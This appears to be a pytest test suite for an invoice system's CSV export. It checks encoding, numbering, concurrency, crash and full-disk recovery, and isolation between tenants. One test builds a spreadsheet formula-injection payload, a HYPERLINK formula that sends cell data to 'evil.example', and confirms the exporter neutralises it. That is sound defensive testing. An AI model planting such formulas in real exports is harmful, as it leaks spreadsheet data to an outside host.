"""Exports: what spreadsheets read is what was received; no invoice is lost or exported twice, whatever goes wrong."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from typing import Any
from uuid import UUID

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from invoice_pipelines.einvoice.model import Line, Party
from invoice_pipelines.intake.exports.csv_files import INVOICE_COLUMNS, LINE_COLUMNS, to_csv
from invoice_pipelines.intake.exports.export_files import Export, complete_exports
from invoice_pipelines.intake.exports.formats import choose_validated
from invoice_pipelines.intake.promises import exported_without_file
from invoice_pipelines.intake.received_invoices import ProcessingError, ask_for_new_export, mark_failed
from invoice_pipelines.intake.stages import stages
from invoice_pipelines.storage import StorageError, write_file_atomically
from invoice_pipelines_tests.conftest import PROJECT
from invoice_pipelines_tests.integration.intake.conftest import IntakeDesk, make_reading
from invoice_pipelines_tests.support.programs import run
from invoice_pipelines_tests.support.sizes import example_count

TEXT_COLUMNS = ("invoice_number", "seller_name", "buyer_reference")


def choose(desk: IntakeDesk, *ids: UUID) -> UUID | None:
    with desk.scope() as connection:
        return choose_validated(connection, "CSV", ids, "test")


def complete(desk: IntakeDesk) -> list[Export]:
    return complete_exports(desk.engine, desk.organization_id, desk.slug, desk.exports)


def content(desk: IntakeDesk, path: str) -> bytes:
    return (desk.folder / "exports" / path).read_bytes()


def table(desk: IntakeDesk, export: Export, kind: str = "invoices") -> list[dict[str, str]]:
    (file,) = (file for file in export.files if file.path.endswith(f"_{kind}.csv"))
    return list(csv.DictReader(io.StringIO(content(desk, file.path).decode(), newline="")))


def invoices_in_files(desk: IntakeDesk) -> list[str]:
    """Invoice ids of all invoice files that lie there, in completed exports or not."""
    return sorted(
        row["invoice_record_id"]
        for path in (desk.folder / "exports").rglob("*_invoices.csv")
        for row in csv.DictReader(path.open(newline="", encoding="utf-8"))
    )


def test_the_files_hold_what_was_received_as_csv_and_pandas_read_it(desk: IntakeDesk) -> None:
    reading = make_reading(
        'R "1", line\r\none',
        seller=Party(name="Müller & Söhne; 株式会社 💡", vat_id="DE136695976"),
        net_amount=Decimal("900"),
        tax_amount=Decimal("171.00"),
        gross_amount=Decimal("1071.00"),
        payable_amount=Decimal("-0.5000"),
        lines=(
            Line("1", name="Nagel,\nlang", quantity=Decimal("0.3333"), unit="C62", net_amount=Decimal("900.10")),
            Line("2", name='3" Rohr', quantity=Decimal(-1), net_amount=Decimal("-0.10"), tax_rate=Decimal("19.0")),
        ),
    )
    invoice = desk.validated(reading)
    choose(desk, invoice.id)
    (export,) = complete(desk)
    (row,) = table(desk, export)
    assert list(row) == list(INVOICE_COLUMNS)
    expected = {
        "invoice_record_id": str(invoice.id),
        "invoice_number": reading.number,
        "seller_name": "Müller & Söhne; 株式会社 💡",
        "issue_date": "2026-03-01",
        "net_amount": "900",
        "tax_amount": "171.00",
        "gross_amount": "1071.00",
        "payable_amount": "-0.5000",
        "buyer_vat_id": "",
        "confidence": "1.000",
        "currency": "EUR",
        "source": "xml",
    }
    assert {name: row[name] for name in expected} == expected
    lines = table(desk, export, "lines")
    assert list(lines[0]) == list(LINE_COLUMNS)
    assert [line["line_number"] for line in lines] == ["1", "2"]
    assert [line["description"] for line in lines] == ["Nagel,\nlang", '3" Rohr']
    assert [line["quantity"] for line in lines] == ["0.3333", "-1"]
    assert [line["net_amount"] for line in lines] == ["900.10", "-0.10"]
    assert {line["invoice_number"] for line in lines} == {reading.number}
    for file in export.files:
        frame = pd.read_csv(io.BytesIO(content(desk, file.path)), dtype=str, keep_default_na=False)
        assert frame.to_dict("records") == table(desk, export, "lines" if "lines" in file.path else "invoices")
        assert (file.rows, file.size_bytes) == (len(frame), len(content(desk, file.path)))
        assert file.sha256 == hashlib.sha256(content(desk, file.path)).hexdigest()


def test_a_file_is_utf_8_with_carriage_return_line_feed_and_a_heading(desk: IntakeDesk) -> None:
    choose(desk, desk.validated().id)
    (export,) = complete(desk)
    for file, columns in zip(export.files, (INVOICE_COLUMNS, LINE_COLUMNS), strict=True):
        data = content(desk, file.path)
        assert data.startswith(",".join(columns).encode() + b"\r\n")
        assert data.endswith(b"\r\n")
        assert data.count(b"\n") == data.count(b"\r\n") == 2
        assert not data.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_text_cell_is_a_formula_for_a_spreadsheet(desk: IntakeDesk, start: str) -> None:
    evil = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    reading = make_reading(
        evil,
        seller=Party(name=evil, tax_id=evil),
        buyer=Party(name=evil, vat_id=evil),
        buyer_reference=evil,
        order_reference=evil,
        type_code=evil,
        profile=evil,
        lines=(Line(evil, name=evil, unit=evil, tax_category=evil, net_amount=Decimal("-1.50")),),
        net_amount=Decimal("-100.00"),
    )
    invoice = desk.validated(reading)
    desk.behind("update intake.upload set file_name = :name where organization_id = :organization", name=evil)
    choose(desk, invoice.id)
    (export,) = complete(desk)
    for kind in ("invoices", "lines"):
        (row,) = table(desk, export, kind)
        amounts = {name for name in row if "amount" in name}
        dangerous = {name for name, cell in row.items() if cell.startswith(start) and name not in amounts}
        assert dangerous == set()
        evil_cells = [cell for cell in row.values() if "HYPERLINK" in cell]
        assert evil_cells
        assert set(evil_cells) == {f"'{evil}"}
        # A negative amount stays a number.
        assert row["net_amount"] == ("-100.00" if kind == "invoices" else "-1.50")


def test_file_names_are_plain_and_say_whose_and_which(desk: IntakeDesk) -> None:
    choose(desk, desk.validated().id)
    (export,) = complete(desk)
    for file in export.files:
        assert re.fullmatch(rf"{desk.slug}/{desk.slug}_000001_\d{{8}}_(invoices|lines)\.csv", file.path)
    on_disk = {path.relative_to(desk.folder / "exports").as_posix() for path in (desk.folder / "exports").rglob("*.*")}
    assert on_disk == {file.path for file in export.files}


def test_the_export_is_recorded_with_its_invoices_and_files(desk: IntakeDesk) -> None:
    invoices = [desk.validated() for _ in range(3)]
    choose(desk, *(invoice.id for invoice in invoices))
    (export,) = complete(desk)
    assert (export.number, export.invoice_count) == (1, 3)
    row = desk.rows("select * from intake.export")[0]
    assert (row.id, row.status, row.invoice_count, row.created_by, row.format) == (
        export.id,
        "completed",
        3,
        "test",
        "CSV",
    )
    assert [file["path"] for file in row.files] == [file.path for file in export.files]
    assert {row[0] for row in desk.rows("select received_invoice_id from intake.export_invoice")} == {
        invoice.id for invoice in invoices
    }
    assert {desk.status(invoice.id) for invoice in invoices} == {"EXPORTED"}


def test_an_invoice_that_is_not_validated_is_not_chosen(desk: IntakeDesk) -> None:
    uploaded, parsed, validated = desk.invoice(), desk.parsed(), desk.validated()
    assert choose(desk, uploaded.id, parsed.id) is None
    assert choose(desk) is None
    assert choose(desk, uploaded.id, parsed.id, validated.id) is not None
    (export,) = complete(desk)
    assert export.invoice_count == 1
    assert desk.one("select count(*) from intake.export") == 1


def test_an_invoice_in_a_pending_export_is_not_chosen_again(desk: IntakeDesk) -> None:
    first, second = desk.validated(), desk.validated()
    assert choose(desk, first.id) is not None
    assert choose(desk, first.id) is None
    assert choose(desk, first.id, second.id) is not None
    assert [export.invoice_count for export in complete(desk)] == [1, 1]
    assert invoices_in_files(desk) == sorted([str(first.id), str(second.id)])


def test_an_invoice_is_exported_again_only_when_asked_for(desk: IntakeDesk) -> None:
    invoice = desk.validated()
    choose(desk, invoice.id)
    complete(desk)
    assert choose(desk, invoice.id) is None
    assert complete(desk) == []
    with desk.scope() as connection:
        ask_for_new_export(connection, [invoice.id])
    report = stages.export_invoices(desk.intake())
    (export,) = report.exports
    assert (export.number, export.invoice_count) == (2, 1)
    assert invoices_in_files(desk) == [str(invoice.id)] * 2
    assert desk.status(invoice.id) == "EXPORTED"


def test_numbers_count_up_without_gaps_for_each_organization_also_after_a_rollback(
    desk: IntakeDesk, other_desk: IntakeDesk
) -> None:
    for number in range(1, 4):
        invoice = desk.validated()
        with desk.scope() as connection:
            assert choose_validated(connection, "CSV", [invoice.id], "test") is not None
            connection.rollback()
        choose(desk, invoice.id)
        choose(other_desk, other_desk.validated().id)
        assert [export.number for export in complete(desk)] == [number]
    assert [export.number for export in complete(other_desk)] == [1, 2, 3]


def test_two_that_choose_the_same_invoices_at_once_make_one_export_of_them(desk: IntakeDesk) -> None:
    for round_number in range(1, 6):
        ids = [desk.validated().id for _ in range(5)]
        barrier = threading.Barrier(3)

        def begin(ids: list[UUID] = ids, barrier: threading.Barrier = barrier) -> UUID | None:
            barrier.wait(timeout=30)
            return choose(desk, *ids)

        with ThreadPoolExecutor(3) as pool:
            exports = [future.result() for future in [pool.submit(begin) for _ in range(3)]]
        assert sum(export is not None for export in exports) == 1
        assert desk.one("select max(export_number) from intake.export") == round_number
    counts = {row.invoice_count for row in desk.rows("select invoice_count from intake.export")}
    assert counts == {5}


def test_two_that_complete_at_once_complete_each_export_once(desk: IntakeDesk) -> None:
    ids = [desk.validated().id for _ in range(12)]
    for invoice_id in ids:
        choose(desk, invoice_id)
    barrier = threading.Barrier(3)

    def work() -> list[Export]:
        barrier.wait(timeout=30)
        return complete(desk)

    with ThreadPoolExecutor(3) as pool:
        done = [export for future in [pool.submit(work) for _ in range(3)] for export in future.result()]
    assert sorted(export.number for export in done) == list(range(1, 13))
    assert invoices_in_files(desk) == sorted(map(str, ids))
    assert {desk.status(invoice_id) for invoice_id in ids} == {"EXPORTED"}


EXPORT_AND_DIE = """
import os, signal, sys
from uuid import UUID
from invoice_pipelines.database import create_app_engine
from invoice_pipelines.intake.exports import csv_files, export_files
from invoice_pipelines.storage import root_path
url, organization, slug, exports, moment = sys.argv[1:]
write, written = csv_files._write, 0
def die():
    os.kill(os.getpid(), signal.SIGKILL)
def write_and_die(*arguments):
    global written
    if moment == "before the files":
        die()
    file = write(*arguments)
    written += 1
    if moment == "between the files":
        die()
    return file
csv_files._write = write_and_die
if moment == "before the commit":
    export_files.mark_exported = lambda *_: die()
export_files.complete_exports(create_app_engine(url), UUID(organization), slug, root_path(exports))
"""


@pytest.mark.parametrize("moment", ["before the files", "between the files", "before the commit"])
def test_after_a_kill_the_next_run_completes_the_export_under_the_same_names(desk: IntakeDesk, moment: str) -> None:
    invoice = desk.validated()
    export_id = choose(desk, invoice.id)
    where = [desk.engine.url.render_as_string(hide_password=False), desk.organization_id, desk.slug, desk.exports]
    killed = run(EXPORT_AND_DIE, *where, moment)
    assert killed.returncode == -signal.SIGKILL
    assert desk.status(invoice.id) == "VALIDATED"
    written_before = {path.name for path in (desk.folder / "exports").rglob("*.csv")}
    assert len(written_before) == {"before the files": 0, "between the files": 1, "before the commit": 2}[moment]
    (export,) = stages.export_invoices(desk.intake()).exports
    assert (export.id, export.invoice_count) == (export_id, 1)
    assert {path.name for path in (desk.folder / "exports").rglob("*.csv")} >= written_before
    assert len(list((desk.folder / "exports").rglob("*.csv"))) == 2
    assert invoices_in_files(desk) == [str(invoice.id)]
    assert desk.status(invoice.id) == "EXPORTED"
    assert stages.export_invoices(desk.intake()).exports == ()


def test_an_invoice_that_failed_after_it_was_chosen_is_not_in_the_export(desk: IntakeDesk) -> None:
    stays, fails = desk.validated(), desk.validated()
    choose(desk, stays.id, fails.id)
    with desk.scope() as connection:
        mark_failed(connection, [(fails, ProcessingError("export", "WITHDRAWN", "The seller took it back."))])
    (export,) = complete(desk)
    assert export.invoice_count == 1
    assert invoices_in_files(desk) == [str(stays.id)]
    assert desk.status(fails.id) == "FAILED"
    # Nor is it recorded as in there: the record says what the file holds.
    assert [row[0] for row in desk.rows("select received_invoice_id from intake.export_invoice")] == [stays.id]


def test_a_completed_export_keeps_its_invoices(desk: IntakeDesk) -> None:
    choose(desk, desk.validated().id)
    complete(desk)
    with desk.scope() as connection:
        assert connection.execute(text("delete from intake.export_invoice")).rowcount == 0
    assert desk.one("select count(*) from intake.export_invoice") == 1


def test_an_exported_invoice_stands_in_a_completed_export(desk: IntakeDesk) -> None:
    invoice = desk.validated()
    choose(desk, invoice.id)
    complete(desk)
    with desk.scope() as connection:
        assert exported_without_file(connection).kept
    desk.behind(
        "update intake.export set status = 'pending', completed_at = null where organization_id = :organization"
    )
    with desk.scope() as connection:
        assert exported_without_file(connection).sample == (str(invoice.id),)


EXPORT_ON_A_FULL_DISK = """
import resource, sys
from uuid import UUID
from invoice_pipelines.database import create_app_engine
from invoice_pipelines.intake.exports.export_files import complete_exports
from invoice_pipelines.storage import StorageError, root_path
import pandas
resource.setrlimit(resource.RLIMIT_FSIZE, (300, 300))
try:
    complete_exports(create_app_engine(sys.argv[1]), UUID(sys.argv[2]), sys.argv[3], root_path(sys.argv[4]))
except StorageError as error:
    print(error)
"""


def test_on_a_full_disk_the_export_stays_pending_and_the_error_names_the_file(desk: IntakeDesk) -> None:
    invoice = desk.validated(make_reading(lines=make_reading().lines * 50))
    choose(desk, invoice.id)
    where = [desk.engine.url.render_as_string(hide_password=False), str(desk.organization_id), desk.slug]
    command = [sys.executable, "-c", EXPORT_ON_A_FULL_DISK, *where, str(desk.exports)]
    # Not measured by `make coverage`, whose own file would not fit on the disk either.
    unmeasured = {name: value for name, value in os.environ.items() if not name.startswith("COV")}
    full = subprocess.run(command, timeout=60, cwd=PROJECT, check=True, capture_output=True, text=True, env=unmeasured)
    assert f"'{desk.slug}_000001_" in full.stdout
    assert "no space is left" in full.stdout
    assert full.stderr == ""
    assert desk.one("select status from intake.export") == "pending"
    assert desk.status(invoice.id) == "VALIDATED"
    assert list((desk.folder / "exports").rglob("*.csv")) == []
    (export,) = complete(desk)
    assert (export.number, export.invoice_count) == (1, 1)


def test_an_unwritable_place_is_an_error_that_names_the_file_and_loses_nothing(desk: IntakeDesk) -> None:
    invoice = desk.validated()
    choose(desk, invoice.id)
    (desk.folder / "exports").write_bytes(b"a file where a folder should be")
    with pytest.raises(StorageError, match=f"{desk.slug}_000001_"):
        complete(desk)
    assert desk.status(invoice.id) == "VALIDATED"
    (desk.folder / "exports").unlink()
    assert len(complete(desk)) == 1


def test_a_half_written_file_of_an_export_is_replaced_by_the_whole_one(desk: IntakeDesk) -> None:
    choose(desk, desk.validated().id)
    (export,) = complete(desk)
    whole = content(desk, export.files[0].path)
    desk.behind(
        "update intake.received_invoice set status = 'VALIDATED' where organization_id = :organization",
    )
    desk.behind(
        """update intake.export set status = 'pending', completed_at = null where organization_id = :organization"""
    )
    write_file_atomically(desk.exports / export.files[0].path, whole[:50])
    (again,) = complete(desk)
    assert again.files[0].path == export.files[0].path
    assert content(desk, again.files[0].path) == whole


def test_an_export_of_one_organization_is_none_of_anothers_business(desk: IntakeDesk, other_desk: IntakeDesk) -> None:
    mine = desk.validated()
    assert choose(other_desk, mine.id) is None
    choose(desk, mine.id)
    assert complete(other_desk) == []
    assert len(complete(desk)) == 1
    assert json.dumps([tuple(row) for row in other_desk.rows("select * from intake.export")]) == "[]"


# Whatever PostgreSQL can give back: any text without NUL and surrogates.
storable = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=30)
awkward = st.text("=+-@\t\r\n\",;' \ufeff\u2028éA1", max_size=8)
decimals = st.decimals(allow_nan=False, allow_infinity=False, min_value=-(10**12), max_value=10**12, places=4)


def shown(value: str | None) -> str:
    if value is None:
        return ""
    return f"'{value}" if value[:1] in tuple("=+-@\t\r") else value


@settings(max_examples=example_count(150))
@given(
    st.lists(
        st.fixed_dictionaries(
            {
                **{name: st.none() | awkward | storable for name in TEXT_COLUMNS},
                "gross_amount": st.none() | decimals,
            }
        ),
        max_size=6,
    )
)
def test_any_text_comes_back_from_a_file_as_it_was_but_for_the_apostrophe(rows: list[dict[str, Any]]) -> None:
    columns = [*TEXT_COLUMNS, "gross_amount"]
    data = to_csv(columns, rows)
    heading, *read = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    assert heading == columns
    assert [cells[:3] for cells in read] == [[shown(row[name]) for name in TEXT_COLUMNS] for row in rows]
    amounts = [Decimal(cells[3]) if cells[3] else None for cells in read]
    assert amounts == [row["gross_amount"] for row in rows]
    assert not any("E" in cells[3] for cells in read)


@settings(max_examples=example_count(60))
@given(st.lists(storable, min_size=1, max_size=5))
def test_pandas_reads_the_same_cells_as_the_csv_module(texts: list[str]) -> None:
    data = to_csv(["invoice_number", "seller_name"], [{"invoice_number": t, "seller_name": t} for t in texts])
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    read = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))[1:]
    assert frame.to_numpy().tolist() == read


def test_texts_that_pandas_takes_for_missing_stay_texts() -> None:
    for word in ("nan", "NA", "None", "null", "<NA>", ""):
        data = to_csv(["seller_name", "iban"], [{"seller_name": word, "iban": "x"}])
        assert list(csv.reader(io.StringIO(data.decode(), newline="")))[1] == [word, "x"]
